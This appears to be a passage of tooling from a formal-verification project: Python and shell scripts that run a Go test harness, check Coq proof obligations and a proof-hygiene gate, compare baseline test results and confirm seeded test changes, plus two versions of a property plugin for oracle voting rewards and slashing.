    mem = getattr(plugin, "HARNESS_MEM_KB", 24 * 1024 * 1024)
    sh = "ulimit -v %d; exec %s" % (mem, " ".join("'%s'" % c for c in cmd))
    rc, o, dt = run(["bash", "-c", sh], cwd=wd, env=env, timeout=to + 60)
    recs = []
    if os.path.exists(out):
        for line in open(out):
            line = line.strip()
            if line:
                try:
                    r = json.loads(line)
                except Exception:
                    continue
                r["id"] = len(recs)  # ids are positions in the trace (several drivers may share one trace)
                recs.append(r)
    ok = rc == 0 and "\nFAIL" not in o and not o.startswith("FAIL") and "PASS" in o
    return ok, recs, o, dt


def parse_list(out, name):
    m = re.search(r"(?:^|\n)%s\s*=\s*(\[.*?\])\s*\n?\s*:" % name, out, re.S)
    if not m:
        return None
    body = m.group(1).strip()[1:-1].strip()
    if not body:
        return []
    return [int(x.replace("%N", "")) for x in re.split(r"[;\s]+", body) if x.strip()]


def evaluate(plugin, recs, tag="gen", shard=300):
    """Evaluate records inside Coq. Returns (M ids, V ids, err)."""
    wd = os.path.join(BUILD, "run", plugin.ID)
    M, V = [], []
    shards = [recs[i:i + shard] for i in range(0, len(recs), shard)] or [[]]
    procs = []
    for si, sh in enumerate(shards):
        path = os.path.join(wd, "cases_%s_%s_%d.v" % (plugin.ID, tag, si))
        with open(path, "w") as f:
            f.write("(* generated by tools/check.py from the implementation trace *)\n")
            f.write("From Coq Require Import List ZArith NArith String. Import ListNotations.\n")
            f.write(plugin.CASES_HEADER + "\n")
            f.write("Set Printing Width 1000000. Set Printing Depth 1000000.\n")
            # case ids are binary N literals (a unary nat id of 10^6 overflows the stack in vm_compute)
            f.write("Definition cases : list (N * %s) := [\n" % plugin.CASE_TYPE)
            f.write(";\n".join("  ((%d)%%N, %s)" % (r["id"], plugin.to_coq_case(r)) for r in sh))
            f.write("\n].\n")
            f.write("Definition M := Eval vm_compute in map fst (filter (fun c => %s (snd c)) cases).\n" % plugin.MISMATCH_FN)
            f.write("Definition V := Eval vm_compute in map fst (filter (fun c => %s (snd c)) cases).\n" % plugin.VIOLATES_FN)
            f.write("Print M.\nPrint V.\n")
        procs.append((path, subprocess.Popen(["coqc", "-Q", COQ, "Nib", path], cwd=wd, stdout=subprocess.PIPE,
                                             stderr=subprocess.STDOUT, text=True)))
        if len(procs) >= 12:
            for p in procs:
                p[1].wait()
    for path, p in procs:
        try:
            out, _ = p.communicate(timeout=1800)
        except subprocess.TimeoutExpired:
            p.kill()
            return None, None, "coqc timeout on " + path
        if p.returncode != 0:
            # transient failures under load (e.g. a .vo being rewritten by a concurrent run): retry once
            time.sleep(3)
            rc2, out2, _ = run(["coqc", "-Q", COQ, "Nib", path], cwd=wd, timeout=1800)
            if rc2 != 0:
                return None, None, "coqc failed on %s:\n%s" % (path, out2[-3000:])
            out = out2
        m, v = parse_list(out, "M"), parse_list(out, "V")
        if m is None or v is None:
            return None, None, "cannot parse coqc output of %s:\n%s" % (path, out[-2000:])
        M += m
        V += v
    return M, V, None


# ------------------------------------------------------------------ findings

def load_known():
    p = os.path.join(VERIF, "known_findings.json")
    if not os.path.exists(p):
        return []
    return json.load(open(p)).get("findings", [])


def match_known(pid, sig, known):
    for k in known:
        if k.get("property") == pid and k.get("status") == "open" and k.get("signature") == sig:
            return k
    return None


def write_replay(plugin, rec, seed, reason, extra=None):
    os.makedirs(os.path.join(OUTDIR, "replay"), exist_ok=True)
    body = {"property": plugin.ID, "seed": seed, "reason": reason,
            "inputs": [rec["input"]] if rec else [], "observed": [rec["obs"]] if rec else []}
    if extra:
        body.update(extra)
    h = hashlib.sha1(json.dumps(body, sort_keys=True).encode()).hexdigest()[:10]
    path = os.path.join(OUTDIR, "replay", "%s-%s.json" % (plugin.ID, h))
    with open(path, "w") as f:
        json.dump(body, f, indent=1)
    return path


def shrink(plugin, rec, tier, seed):
    """Delta-debug the failing input with the implementation in the loop."""
    cands_fn = getattr(plugin, "shrink_candidates", None)
    if not cands_fn:
        return rec
    best = rec
    for _round in range(8):
        cands = cands_fn(best["input"])
        if not cands:
            break
        cands = cands[:60]
        rp = os.path.join(BUILD, "run", plugin.ID, "shrink.json")
        json.dump({"inputs": cands}, open(rp, "w"))
        ok, recs, out, _ = run_harness(plugin, tier, seed, replay=rp, tag="shrink")
        if not recs:
            break
        M, V, err = evaluate(plugin, recs, tag="shrink")
        if err or not V:
            break
        size = getattr(plugin, "input_size", lambda i: len(json.dumps(i)))
        failing = sorted([r for r in recs if r["id"] in V], key=lambda r: size(r["input"]))
        if size(failing[0]["input"]) >= size(best["input"]):
            break
        best = failing[0]
    return best


# ------------------------------------------------------------------ main

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("pid")
    ap.add_argument("--tier", default=os.environ.get("VERIF_TIER", "quick"), choices=["quick", "thorough"])
    ap.add_argument("--replay")
    args = ap.parse_args()
    pid = args.pid.upper()
    try:
        seed = int(os.environ.get("VERIF_SEED", "1"))
    except ValueError:
        seed = 1
    plugin = importlib.import_module("props." + pid.lower())
    t0 = time.time()
    tier = args.tier
    ev = {"property_id": pid, "tier": tier, "seed": seed, "level": "proof", "wall_s": 0.0, "violations": 0,
          "coverage": {}, "assumptions": list(getattr(plugin, "ASSUMPTIONS", []))}
    cov = ev["coverage"]

    def finish(code):
        ev["wall_s"] = round(time.time() - t0, 1)
        if not args.replay:
            os.makedirs(os.path.join(OUTDIR, "evidence"), exist_ok=True)
            with open(os.path.join(OUTDIR, "evidence", pid + ".json"), "w") as f:
                json.dump(ev, f, indent=1)
        sys.exit(code)

    def infra(msg):
        # the machinery itself could not run: not a verdict about the property
        print(msg[-6000:])
        print("ERROR property=%s check could not run (infrastructure): see above" % pid)
        cov.setdefault("explanation", "check could not run: " + msg[-500:])
        cov.setdefault("evaluations", 0)
        cov.setdefault("distinct_nontrivial", 0)
        finish(2)

    # 1 build harness + facts
    ok, msg = build_go(plugin)
    if not ok:
        # The correspondence cannot even be built against this tree: the property is no longer shown to
        # hold for it (DESIGN §3 step 4c) — reported as a violation without a failing input.
        print(msg[-4000:])
        path = write_replay(plugin, None, seed, "the correspondence harness no longer builds against the tree",
                            {"no_longer_checks": "correspondence (harness/%s does not compile against the repository)" % pid.lower(),
                             "build_output": msg[-4000:]})
        cov.update({"obligations": 1, "discharged": 0, "checker_cmd": "go test -c ./" + pid.lower(), "trusted_base": [],
                    "explanation": "harness build failed"})
        ev["violations"] = 1
        print("VIOLATION property=%s replay=%s no-failing-input-found" % (pid, path))
        finish(1)
    ok, facts = gen_facts(plugin)
    if not ok:
        infra(facts)

    # 2 Coq: model files must build; obligation files are the proofs
    proof_broken = None
    axioms = []
    obligations = []
    notes = []
    with Lock("coq"):
        rc, out, dt = coq_make([f.replace(".v", ".vo") for f in plugin.COQ_MODEL])
        if rc != 0:
            infra("Coq model files failed to build:\n" + out)
        for f in plugin.COQ_OBLIG:
            obligations += theorems_in(f)
        deps = [f.replace(".v", ".vo") for f in getattr(plugin, "COQ_PROOF_DEPS", [])]
        if deps:
            rc, out, _ = coq_make(deps)
            if rc != 0:
                proof_broken = "proof files no longer build: " + out[-1500:]
        import hygiene
        dirs = sorted({os.path.join(COQ, os.path.dirname(f)) for f in plugin.COQ_OBLIG + plugin.COQ_MODEL + list(getattr(plugin, "COQ_PROOF_DEPS", []))
                       if os.path.dirname(f) not in ("Gen", "")})
        dirty = hygiene.run(dirs + [os.path.join(COQ, f) for f in plugin.COQ_OBLIG])
        if dirty and not proof_broken:
            proof_broken = "forbidden declaration in the development: %s:%d: %s" % dirty[0]
        if not proof_broken:
            for f in plugin.COQ_OBLIG:
                rc, out, dt = coqc(os.path.join(COQ, f))
                if rc != 0:
                    proof_broken = "obligation file %s no longer checks:\n%s" % (f, out[-1500:])
                    break
                axioms += assumptions_from(out)
                notes += [l.strip()[:300] for l in out.split("\n") if re.search(r"(?i)\b(warning|stale|note):", l)][:40]
    discharged = 0 if proof_broken else len(obligations)
    log("obligations %d discharged %d%s" % (len(obligations), discharged, " (BROKEN)" if proof_broken else ""))
    cov.update({
        "obligations": len(obligations), "discharged": discharged,
        "obligation_names": obligations,
        "checker_cmd": "coqc -Q coq Nib " + " ".join(plugin.COQ_OBLIG) + " (after make of their dependencies); cases evaluated by coqc with vm_compute",
        "axioms_reported_by_Print_Assumptions": sorted(set(axioms)),
        "obligation_notes": notes,
        "trusted_base": ["Coq 8.16.1 kernel + vm_compute (no native_compute)",
                         "tools/check.py orchestration and trace->cases_%s.v rendering (tools/props/%s.py)" % (pid, pid.lower()),
                         "Go harness driver harness/%s_test.go (canonicalisation of observables)" % pid.lower()]
                        + (["fact extractor harness/gen (%s): go/parser+go/ast, prints terms only" % plugin.GEN] if getattr(plugin, "GEN", None) else [])
                        + list(getattr(plugin, "TRUSTED", [])),
    })

    # 3 run implementation
    if args.replay:
        ok, recs, hout, _ = run_harness(plugin, tier, seed, replay=os.path.abspath(args.replay), tag="replay")
        if not recs:
            print(hout[-3000:])
            print("replay produced no records")
            sys.exit(2)
        M, V, err = evaluate(plugin, recs, tag="replay")
        if err:
            print(err)
            sys.exit(2)
        for r in recs:
            print(json.dumps({"input": r["input"], "observed": r["obs"], "model_disagrees": r["id"] in M,
                              "property_violated_on_implementation": r["id"] in V}))
        sys.exit(1 if V else 0)

    recs = []
    corpus = os.path.join(VERIF, "corpus", pid)
    if os.path.isdir(corpus):
        inputs = []
        for fn in sorted(os.listdir(corpus)):
            if fn.endswith(".json"):
                inputs += json.load(open(os.path.join(corpus, fn))).get("inputs", [])
        if inputs:
            rp = os.path.join(BUILD, "run", pid, "corpus.json")
            os.makedirs(os.path.dirname(rp), exist_ok=True)
            json.dump({"inputs": inputs}, open(rp, "w"))
            ok, crecs, hout, _ = run_harness(plugin, tier, seed, replay=rp, tag="corpus")
            if not ok:
                infra("harness failed on corpus:\n" + hout)
            for r in crecs:
                r["from_corpus"] = True
            recs += crecs
    ok, grecs, hout, hdt = run_harness(plugin, tier, seed)
    if not ok:
        infra("harness run failed:\n" + hout)
    for r in grecs:
        r["id"] += len(recs)  # corpus records come first
    recs += grecs
    log("harness: %d records in %.0fs" % (len(recs), hdt))
    M, V, err = evaluate(plugin, recs)
    if err:
        infra(err)
    byid = {r["id"]: r for r in recs}
    keyf = lambda r: json.dumps(r["input"], sort_keys=True)
    nontriv = {keyf(r) for r in recs if plugin.nontrivial(r)}
    hist = {}
    for r in recs:
        for k in plugin.classify(r):
            hist[k] = hist.get(k, 0) + 1
    cov.update({
        "evaluations": len(recs), "distinct_nontrivial": len(nontriv), "rule": plugin.RULE,
        "traces_validated_against_impl": len(recs), "model_impl_mismatches": len(M),
        "property_false_on_impl_trace": len(V), "input_distribution": hist,
        "samples": [plugin.describe(r) for r in recs[:3]],
        "generated_facts": facts if len(facts) < 4000 else facts[:4000],
    })

    # 4 decide
    known = load_known()
    exit_code = 0
    reported = set()
    if V:
        for vid in V:
            rec = byid[vid]
            sig = plugin.signature(rec)
            k = match_known(pid, sig, known)
            if k:
                key = json.dumps(sig, sort_keys=True)
                if key not in reported:
                    reported.add(key)
                    print("KNOWN-FINDING: property=%s %s" % (pid, k.get("what", "")))
                continue
            small = shrink(plugin, rec, tier, seed)
            path = write_replay(plugin, small, seed, "property predicate false on the implementation trace",
                                {"signature": plugin.signature(small)})
            ev["violations"] += 1
            print("VIOLATION property=%s replay=%s" % (pid, path))
            exit_code = 1
            break
    if exit_code == 0 and (proof_broken or M):
        # a proof obligation or the correspondence broke but no implementation trace violates the
        # property yet: search harder before giving up
        why = proof_broken or ("model and implementation disagree on %d case(s), first: %s" %
                               (len(M), json.dumps(plugin.describe(byid[M[0]]))[:1500]))
        log("searching for a failing input: " + why[:300])
        found = None
        searcher = getattr(plugin, "model_search", None)
        if searcher:
            try:
                inputs = searcher(sys.modules[__name__]) or []
            except Exception as e:  # search is best effort
                log("model search failed: %r" % e)
                inputs = []
            if inputs:
                rp = os.path.join(BUILD, "run", pid, "search.json")
                json.dump({"inputs": inputs[:50]}, open(rp, "w"))
                ok, srecs, _, _ = run_harness(plugin, tier, seed, replay=rp, tag="search")
                if srecs:
                    _, SV, serr = evaluate(plugin, srecs, tag="search")
                    if not serr and SV:
                        found = [r for r in srecs if r["id"] in SV][0]
        if not found:
            for extra in range(1, 4 if tier == "quick" else 8):
                ok, srecs, _, _ = run_harness(plugin, tier, seed + 7919 * extra, tag="search")
                if not srecs:
                    continue
                _, SV, serr = evaluate(plugin, srecs, tag="search")
                if not serr and SV:
                    found = [r for r in srecs if r["id"] in SV][0]
                    break
        if found and not match_known(pid, plugin.signature(found), known):
            small = shrink(plugin, found, tier, seed)
            path = write_replay(plugin, small, seed, why, {"signature": plugin.signature(small)})
            print("VIOLATION property=%s replay=%s" % (pid, path))
        else:
            first = byid[M[0]] if M else None
            path = write_replay(plugin, first, seed, why,
                                {"no_longer_checks": plugin.COQ_OBLIG if proof_broken else "correspondence model vs implementation (" + plugin.MISMATCH_FN + ")"})
            print("VIOLATION property=%s replay=%s no-failing-input-found" % (pid, path))
        ev["violations"] += 1
        exit_code = 1
    log("done: %d cases, %d nontrivial, M=%d V=%d exit=%d" % (len(recs), len(nontriv), len(M), len(V), exit_code))
    finish(exit_code)


if __name__ == "__main__":
    main()
