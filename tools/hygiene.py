#!/usr/bin/env python3
"""Grep gate over the Coq development: no Admitted/admit/Axiom/Parameter/Conjecture/guard switches/native_compute,
no Variable/Hypothesis/Context outside a Section.  usage: tools/hygiene.py [dir-or-file …]  (default: coq/)"""
import os, re, sys
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FORBID = re.compile(r"\b(Admitted|admit|Axiom|Axioms|Parameter|Parameters|Conjecture|Admit Obligations|native_compute|bypass_check)\b|Unset\s+(Guard|Positivity|Universe)|type-in-type|impredicative-set")

def strip_comments(src):
    out, depth, i = [], 0, 0
    while i < len(src):
        if src.startswith("(*", i):
            depth += 1; i += 2
        elif src.startswith("*)", i) and depth:
            depth -= 1; i += 2
        else:
            if depth == 0 or src[i] == "\n":
                out.append(src[i])
            i += 1
    return "".join(out)

def scan(path):
    bad = []
    src = strip_comments(open(path).read())
    depth = 0
    for n, line in enumerate(src.split("\n"), 1):
        if FORBID.search(line):
            bad.append((path, n, line.strip()))
        if re.match(r"\s*Section\s+\w+", line):
            depth += 1
        elif re.match(r"\s*End\s+\w+\s*\.", line) and depth > 0:
            depth -= 1
        elif re.match(r"\s*(Variables?|Hypothes[ie]s|Context)\b", line) and depth == 0:
            bad.append((path, n, "outside a Section: " + line.strip()))
    return bad

def run(targets):
    bad = []
    for t in targets:
        if os.path.isdir(t):
            for root, _, files in os.walk(t):
                for fn in files:
                    if fn.endswith(".v"):
                        bad += scan(os.path.join(root, fn))
        elif os.path.exists(t):
            bad += scan(t)
    return bad

if __name__ == "__main__":
    ts = sys.argv[1:] or [os.path.join(V, "coq")]
    bad = run(ts)
    for b in bad:
        print("%s:%d: %s" % b)
    print("hygiene: %d problem(s) in %s" % (len(bad), " ".join(ts)))
    sys.exit(1 if bad else 0)
