#!/bin/sh
# usage: tools/baseline.sh [out.json]
# Runs /repo's own test suite (the pinned command of /root/.vp/BASELINE.json, hook build tag off) on /repo's HEAD in a scratch
# worktree and compares with the list of stable-pass tests: prints pass/fail counts and every stable-pass test that did not pass.
OUT=${1:-/root/scratch/baseline-$(git -C /repo rev-parse --short HEAD).json}
WT=$(mktemp -d /tmp/wt-base-XXXXXX); rmdir "$WT"
git -C /repo worktree add -q "$WT" HEAD || exit 2
export GOFLAGS=-mod=mod GOPROXY=off
(cd "$WT" && go test -json -vet=off -count=1 -timeout 25m -p 6 ./... > "$OUT" 2> "$OUT.err")
git -C /repo worktree remove --force "$WT"
python3 - "$OUT" <<'PY'
import json, sys
st = {}
for l in open(sys.argv[1]):
    try: e = json.loads(l)
    except Exception: continue
    if e.get("Test") and e.get("Action") in ("pass", "fail", "skip"):
        st[e["Package"] + "::" + e["Test"]] = e["Action"]
base = json.load(open("/root/.vp/BASELINE.json"))["stable_pass"]
bad = [t for t in base if st.get(t) != "pass"]
print("tests run: %d pass=%d fail=%d; stable_pass=%d, not passing now=%d" % (
    len(st), sum(v == "pass" for v in st.values()), sum(v == "fail" for v in st.values()), len(base), len(bad)))
for t in bad[:60]:
    print("  NOT PASSING:", t, st.get(t))
PY
