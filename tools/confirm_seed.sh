#!/bin/sh
# usage: tools/confirm_seed.sh <worktree with patch+demo applied> <patch.diff> "<demo cmd>" "<existing-tests cmd>"
# Confirms a seeded change: builds, existing tests pass with it, demo FAILS with it and PASSES without it.
set -u
WT=$1; PATCH=$(realpath "$2"); DEMO=$3; TESTS=$4
export GOFLAGS="-mod=mod -trimpath" GOPROXY=off
cd "$WT" || exit 2
echo "== build with change"; go build ./... || { echo "BUILD FAILS"; exit 1; }
echo "== demo with change (must FAIL)"; if timeout 1500 sh -c "$DEMO" >/tmp/confirm_demo_with.log 2>&1; then echo "UNEXPECTED: demo passes with change"; R1=bad; else echo "ok: demo fails with change"; R1=ok; fi
tail -5 /tmp/confirm_demo_with.log
echo "== existing tests with change (must PASS)"; if timeout 3000 sh -c "$TESTS" >/tmp/confirm_tests.log 2>&1; then echo "ok: existing tests pass"; R2=ok; else echo "UNEXPECTED: existing tests fail"; grep -E "^(FAIL|---)" /tmp/confirm_tests.log | head; R2=bad; fi
echo "== demo without change (must PASS)"; git apply -R "$PATCH" || { echo "cannot reverse patch"; exit 2; }
if timeout 1500 sh -c "$DEMO" >/tmp/confirm_demo_without.log 2>&1; then echo "ok: demo passes without change"; R3=ok; else echo "UNEXPECTED: demo fails without change"; tail -5 /tmp/confirm_demo_without.log; R3=bad; fi
git apply "$PATCH"
echo "RESULT with=$R1 tests=$R2 without=$R3"
