#!/usr/bin/env python3
"""Rebuild seeded/RESULTS.md from the latest automated verdict recorded in every seeded/*/meta.json (checks_run),
without re-running anything.  usage: tools/seedresults.py"""
import json, os
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
rows = []
for name in sorted(os.listdir(os.path.join(V, "seeded"))):
    p = os.path.join(V, "seeded", name, "meta.json")
    if not os.path.exists(p):
        continue
    meta = json.load(open(p))
    pid = meta.get("property") or name.split("-")[0]
    runs = [r for r in meta.get("checks_run", []) if r.get("check") == pid and "cmd" in r and "tools/seedtest.sh" in r["cmd"]]
    if not runs:
        rows.append((name, pid, "not run", ""))
        continue
    r = runs[-1]
    rows.append((name, pid, r.get("result", ""), r.get("stats", "")))
with open(os.path.join(V, "seeded", "RESULTS.md"), "w") as f:
    f.write("# Seeded changes vs checks (latest verdict per seed from seeded/*/meta.json; written by tools/seedall.py / tools/seedresults.py)\n\n"
            "| seeded change | check | verdict | stats |\n|---|---|---|---|\n")
    for r in rows:
        f.write("| %s | %s | %s | %s |\n" % r)
caught = sum("with failing input" in r[2] for r in rows)
print("%d seeds: %d caught with a failing input, %d expected-silent, %d other" % (
    len(rows), caught, sum("as expected" in r[2] for r in rows),
    len(rows) - caught - sum("as expected" in r[2] for r in rows)))
for r in rows:
    if "with failing input" not in r[2] and "as expected" not in r[2]:
        print("  ", r[0], "|", r[2][:80])
