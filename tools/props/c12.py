"""C12 — oracle penalties and rewards follow actual voting behaviour."""
import copy

ID = "C12"
HARNESS_TEST = "TestC12"
COQ_MODEL = ["C12/Check.v"]
COQ_PROOF_DEPS = ["C12/Proofs.v"]
COQ_OBLIG = ["C12/Property.v"]
CASES_HEADER = "Require Import Nib.C10.Model Nib.C12.Model Nib.C12.Spec Nib.C12.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("case = a history of 8-24 steps on the x/oracle keeper fixture (fixed generated oracle params + whitelist, 2-5 "
        "initial validators): 'end' = set the Votes store and run the real oracle.EndBlocker at the next vote-period "
        "end / slash-window end / next block; 'alloc' = AllocateRewards (1-2 denoms over 1-5 periods, overlapping); "
        "staking steps undelegate / delegate / jail / unjail / create validator / staking.EndBlocker (unbonding, "
        "removal with 1 s unbonding time). Observed after every step: MissCounters, Rewards store, module balance, and "
        "for 'end' steps the credited rewards per validator and jailed/tokens per validator. non-trivial = the history "
        "contains a slash-window end with a non-empty MissCounters store before it, or a period end that paid rewards; "
        "distinct = distinct input")
ASSUMPTIONS = [
    "staking state (power-store order, bonded/jailed flags, power, tokens, total bonded tokens) is read back through the "
    "staking keeper before each EndBlocker call and handed to the model as input; staking/distribution are not modelled "
    "except the effect of Slash on a validator's tokens without unmatured unbonding entries (every step advances block "
    "time beyond the 1 s unbonding time)",
    "AllocateRewards is called with a funded funder and >= 1 vote period (it has no caller in non-test code)",
    "the property predicate is only required inside the overflow-free domain of C10 (generated histories stay inside)",
    "one aggregate vote per validator with at most one tuple per pair (enforced by the msg server)",
]
TRUSTED = ["coq/Lib/Dec.v (LegacyDec arithmetic on raw integers, validated against cosmossdk.io/math)",
           "coq/C10/Model.v (shared model of eligible validators, vote grouping, quorum, weighted median, reward spread)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}


def _z(s):
    return "(%s)%%Z" % int(s)


def _b(x):
    return "true" if x else "false"


def _zs(xs):
    return "[%s]" % "; ".join(_z(x) for x in xs)


def _state(inp, op, pre):
    vals = "[%s]" % "; ".join("mkVal %d %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
    votes = "[%s]" % "; ".join(
        "mkAVote %d [%s]" % (v["voter"], "; ".join("(%d, %s)" % (t["p"], _z(t["r"])) for t in v["t"]))
        for v in op.get("votes") or [])
    wl = "[%s]" % "; ".join("%d" % w for w in inp["wl"])
    return "(mkState %s %d %s %s %s %s [])" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]), wl, votes)


def _svs(pre):
    return "[%s]" % "; ".join("mkSV %d %s %s %s %s %s" % (s["id"], _b(s["exists"]), _b(s["bonded"]), _b(s["jailed"]),
                                                           _z(s["power"]), _z(s["tokens"])) for s in pre["svs"])


def _sobs(o):
    miss = "[%s]" % "; ".join("(%d, %s)" % (m[0], _z(m[1])) for m in o["miss"])
    rewards = "[%s]" % "; ".join("mkReward %s %s" % (_z(r["n"]), _zs(r["c"])) for r in o["rewards"])
    paid = "[%s]" % "; ".join("(%d, %s)" % (p["id"], _zs(p["c"])) for p in o["paid"])
    post = "[%s]" % "; ".join("(%d, %s, %s)" % (p["id"], _b(p["jailed"]), _z(p["tokens"])) for p in o["post"])
    return "(mkSObs %s %s %s %s %s %s)" % (_b(o["panic"]), miss, rewards, _zs(o["bal"]), paid, post)


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"]
    p = inp["params"]
    q = "(mkOP (mkParams %s %s %s 900%%Z %s) %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["band"]),
                                                          _z(p["sf"]), _z(p["win"]), _z(p["mv"]))
    steps = []
    for op, o in zip(inp["ops"], obs):
        if op["k"] == "end":
            t = "(OEnd %s %s %s)" % (_state(inp, op, o["pre"]), _svs(o["pre"]), _z(o["h"]))
        elif op["k"] == "alloc":
            t = "(OAlloc %s %s)" % (_zs(op["coins"]), _z(op["n"]))
        else:
            t = "OOther"
        steps.append("(%s, %s)" % (t, _sobs(o)))
    return "(mkCase %s [%s])" % (q, ";\n     ".join(steps))


def _flags(rec):
    inp, obs = rec["input"], rec["obs"]
    vp, win = inp["params"]["vp"], inp["params"]["win"]
    fl = set()
    prev_miss = []
    for op, o in zip(inp["ops"], obs):
        if op["k"] == "end":
            h = o["h"]
            if (h + 1) % win == 0:
                fl.add("window-end")
                if prev_miss or ((h + 1) % vp == 0 and o["pre"] and any(True for _ in op.get("votes") or [])):
                    pass
                if prev_miss:
                    fl.add("window-end-with-counters")
                pre = {s["id"]: s for s in o["pre"]["svs"]}
                for p in o["post"]:
                    s = pre.get(p["id"])
                    if s and p["jailed"] and not s["jailed"]:
                        fl.add("slashed")
                    if s and s["exists"] and p["tokens"] != s["tokens"]:
                        fl.add("tokens-burned")
                if any(not s["exists"] for s in o["pre"]["svs"]) and prev_miss:
                    fl.add("window-end-with-removed-validator")
                if any(s["jailed"] for s in o["pre"]["svs"]) and prev_miss:
                    fl.add("window-end-with-jailed-validator")
            if o["paid"]:
                fl.add("paid")
            if o["panic"]:
                fl.add("panic")
        if len(o["miss"]) > len(prev_miss) or any(a != b for a, b in zip(o["miss"], prev_miss)):
            if o["miss"]:
                fl.add("miss-counted")
        if len(o["rewards"]) > 1:
            fl.add("overlapping-allocations")
        prev_miss = o["miss"]
    return fl


def nontrivial(rec):
    fl = _flags(rec)
    return "window-end-with-counters" in fl or "paid" in fl


def classify(rec):
    inp = rec["input"]
    ks = ["steps=%d" % (len(inp["ops"]) // 4 * 4), "validators0=%d" % len(inp["vals"])]
    for op in inp["ops"]:
        ks.append("op:" + op["k"] + ("/" + op["jump"] if op.get("jump") else ""))
    ks += ["has:" + f for f in sorted(_flags(rec))]
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    fl = _flags(rec)
    return {"kind": "panic" if "panic" in fl else "bookkeeping",
            "ops": sorted({op["k"] for op in rec["input"]["ops"]})}


def input_size(inp):
    return sum(5 + sum(len(v["t"]) + 1 for v in op.get("votes") or []) for op in inp["ops"]) + len(inp["vals"]) * 3 + len(inp["wl"])


def shrink_candidates(inp):
    out = []
    ops = inp["ops"]
    # drop a suffix / a single op
    for k in range(len(ops) - 1, 0, -1):
        c = copy.deepcopy(inp)
        c["ops"] = c["ops"][:k]
        out.append(c)
    for i in range(len(ops)):
        if ops[i]["k"] != "create":
            c = copy.deepcopy(inp)
            c["ops"].pop(i)
            out.append(c)
    for i, op in enumerate(ops):
        for j in range(len(op.get("votes") or [])):
            c = copy.deepcopy(inp)
            c["ops"][i]["votes"].pop(j)
            out.append(c)
    for i in range(len(inp["wl"])):
        if len(inp["wl"]) > 1:
            c = copy.deepcopy(inp)
            c["wl"].pop(i)
            out.append(c)
    return out


MANIFEST = {
    "level_claimed": {"category": "proof", "text": "filled in at the end (see README)", "design_ref": "DESIGN.md §5 C12"},
    "level_note": "",
    "technique": "Coq proof over an exact-arithmetic model of histories + differential correspondence on keeper-level histories",
}
