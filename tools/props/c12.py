"""C12 — oracle penalties and rewards follow actual voting behaviour."""
import copy

ID = "C12"
HARNESS_TEST = "TestC12"
GEN = "c12"
COQ_MODEL = ["C12/Check.v", "C12/Cfg.v", "Gen/C12Facts.v"]
COQ_PROOF_DEPS = ["C12/Proofs.v"]
COQ_OBLIG = ["C12/Property.v", "Gen/C12Oblig.v"]
CASES_HEADER = "Require Import Nib.C10.Model Nib.C12.Model Nib.C12.Spec Nib.C12.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("case = a history of 8-24 steps on the x/oracle keeper fixture (generated oracle params + whitelist, 2-5 "
        "initial validators; in about half of the histories 'params' steps edit RewardBand / SlashFraction / "
        "MinValidPerWindow / VoteThreshold / MinVoters on the way, half of the time to the zero values Params.Validate "
        "accepts, mostly in the middle of a running slash window): 'end' = set the Votes store and run the real oracle.EndBlocker at the next vote-period "
        "end / slash-window end / next block; 'alloc' = AllocateRewards (1-2 denoms over 1-5 periods, overlapping); "
        "staking steps undelegate / delegate / jail / unjail / create validator / staking.EndBlocker (unbonding, "
        "removal with 1 s unbonding time). Observed after every step: MissCounters, Rewards store, module balance, and "
        "for 'end' steps the credited rewards per validator and jailed/tokens per validator. non-trivial = the history "
        "contains a slash-window end with a non-empty MissCounters store before it, or a period end that paid rewards; "
        "distinct = distinct input")
ASSUMPTIONS = [
    "staking state (power-store order, bonded/jailed flags, power, tokens, total bonded tokens) is read back through the "
    "staking keeper before each EndBlocker call and handed to the model as input; staking/distribution are not modelled "
    "except the effect of Slash on a validator's tokens without unmatured unbonding entries (every step advances block "
    "time beyond the 1 s unbonding time)",
    "AllocateRewards is called with a funded funder and >= 1 vote period (it has no caller in non-test code)",
    "the property predicate is required for Params.Validate-accepted parameters, int64 bonded power and LegacyDec rates (C10 domain)",
    "one aggregate vote per validator with at most one tuple per pair (enforced by the msg server)",
]
TRUSTED = ["harness/gen/c12/main.go normal forms (stage sequence, guards, formulas) — prints terms, never verdicts",
           "coq/Lib/Dec.v (LegacyDec arithmetic on raw integers, validated against cosmossdk.io/math)",
           "coq/C10/Model.v (shared model of eligible validators, vote grouping, quorum, weighted median, reward spread)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}


def _z(s):
    return "(%s)%%Z" % int(s)


def _b(x):
    return "true" if x else "false"


def _zs(xs):
    return "[%s]" % "; ".join(_z(x) for x in xs)


def _state(inp, op, pre):
    vals = "[%s]" % "; ".join("mkVal %d %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
    votes = "[%s]" % "; ".join(
        "mkAVote %d [%s]" % (v["voter"], "; ".join("(%d, %s)" % (t["p"], _z(t["r"])) for t in v["t"]))
        for v in op.get("votes") or [])
    wl = "[%s]" % "; ".join("%d" % w for w in inp["wl"])
    return "(mkState %s %d %s %s %s %s [])" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]), wl, votes)


def _svs(pre):
    return "[%s]" % "; ".join("mkSV %d %s %s %s %s %s" % (s["id"], _b(s["exists"]), _b(s["bonded"]), _b(s["jailed"]),
                                                           _z(s["power"]), _z(s["tokens"])) for s in pre["svs"])


def _sobs(o):
    miss = "[%s]" % "; ".join("(%d, %s)" % (m[0], _z(m[1])) for m in o["miss"])
    rewards = "[%s]" % "; ".join("mkReward %s %s" % (_z(r["n"]), _zs(r["c"])) for r in o["rewards"])
    paid = "[%s]" % "; ".join("(%d, %s)" % (p["id"], _zs(p["c"])) for p in o["paid"])
